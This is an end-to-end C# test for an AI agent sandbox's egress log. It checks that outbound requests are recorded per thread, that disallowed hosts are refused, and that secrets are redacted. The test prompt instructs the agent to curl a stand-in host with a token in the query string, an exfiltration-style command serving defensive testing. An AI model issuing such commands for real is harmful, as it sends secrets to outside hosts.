using System.Net.Http.Json;
using System.Text.Json;
using Npgsql;
using Shouldly;
using Xunit;

namespace Centaur.EndToEnd.Egress;

/// <summary>What a real turn sent can be read by its thread when it is over, after its sandbox is gone too, and is proved by the chain (invariants I5 and I7).</summary>
public sealed class EgressTests(EgressTests.Forgetful installation) : IClassFixture<EgressTests.Forgetful>
{
    static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    /// <summary>Nothing of a sandbox that has ended is kept for long.</summary>
    public sealed class Forgetful : Installation
    {
        protected override string MoreConfiguration => "sandbox: {reconcile_seconds: 0.5, suspended_retention_seconds: 1, warm_pool: {size: 0}}";
    }

    [Fact]
    public async Task A_turns_requests_and_refusals_are_read_by_thread_and_outlive_the_sandbox_with_its_file()
    {
        var conversation = new Conversation(installation, "built-in");
        var ended = await conversation.Say("Run: curl -s -m 10 https://not-allowed.example/?token=geheim; curl -s -m 10 https://api.openai.com/v1/nothing?token=geheim", Cancellation);
        ended.GetProperty("status").GetString().ShouldBe("completed", ended.ToString());
        var sandbox = SandboxProcesses.SandboxId(installation, conversation.ThreadKey);

        var records = await Records(conversation, all => all.Count(r => Text(r, "kind") == "intent") == all.Count(r => Text(r, "kind") == "outcome") && all.Count > 4);

        records.ShouldAllBe(r => Text(r, "thread") == conversation.ThreadKey && Text(r, "sandbox") == sandbox && Text(r, "turn").StartsWith("turn-") && Text(r, "principal").Length > 0);
        var asked = records.First(r => Text(r, "kind") == "intent" && Text(r, "method") == "POST");
        (Text(asked, "host"), Text(asked, "rule"), asked.GetProperty("secrets").EnumerateArray().Single().GetString()).ShouldBe(("api.openai.com", "model", "OPENAI_API_KEY"));
        var outcome = records.Single(r => Text(r, "kind") == "outcome" && Text(r, "id") == Text(asked, "id"));
        outcome.GetProperty("status").GetInt32().ShouldBe(200);
        outcome.GetProperty("bytes_sent").GetInt64().ShouldBeGreaterThan(0);
        outcome.GetProperty("bytes_received").GetInt64().ShouldBeGreaterThan(0);
        var refused = records.Single(r => Text(r, "kind") == "refusal");
        (Text(refused, "host"), Text(refused, "cause"), refused.GetProperty("status").GetInt32()).ShouldBe(("not-allowed.example", "host_not_allowed", 403));
        records.Single(r => Text(r, "path") == "/v1/nothing").GetProperty("query").GetString().ShouldBe("token=…");
        JsonSerializer.Serialize(records).ShouldNotContain("geheim");
        JsonSerializer.Serialize(records).ShouldNotContain(installation.Model.Key);

        (await installation.Cli(["egress", "show", "--thread", conversation.ThreadKey], null, Cancellation)).Succeeded().Output.ShouldContain("REFUSED");
        (await installation.Cli(["egress", "verify"], null, Cancellation)).Succeeded().Output.ShouldStartWith("Holds:");

        await conversation.Stop(Cancellation);
        await Programs.Until(() => Count($"select count(*) from egress_anchors where sandbox_id = '{sandbox}' and closed_at is not null") == 1, Cancellation);
        await Programs.Until(() => !Directory.Exists(Path.Combine(installation.Layout.SandboxesFolder, sandbox)), Cancellation);
        (await Records(conversation, _ => true)).Count.ShouldBeGreaterThanOrEqualTo(records.Count);
        (await installation.Cli(["egress", "verify", "--sandbox", sandbox], null, Cancellation)).Succeeded();
    }

    /// <summary>The last outcomes come a moment after the turn's end.</summary>
    async Task<List<JsonElement>> Records(Conversation conversation, Func<List<JsonElement>, bool> whole)
    {
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(Cancellation);
        limit.CancelAfter(TimeSpan.FromSeconds(60));
        while (true)
        {
            var page = await installation.Http.GetFromJsonAsync<JsonElement>($"/agent/threads/{Uri.EscapeDataString(conversation.ThreadKey)}/egress?after=0&limit=500", limit.Token);
            var records = page.GetProperty("records").EnumerateArray().Select(entry => entry.GetProperty("record")).ToList();
            if (whole(records))
                return records;
            await Task.Delay(50, limit.Token);
        }
    }

    long Count(string query)
    {
        using var source = NpgsqlDataSource.Create(installation.Layout.EmbeddedDatabaseUrl);
        using var command = source.CreateCommand(query);
        return (long)command.ExecuteScalar()!;
    }

    static string Text(JsonElement record, string name) => record.TryGetProperty(name, out var value) ? value.ToString() : "";
}
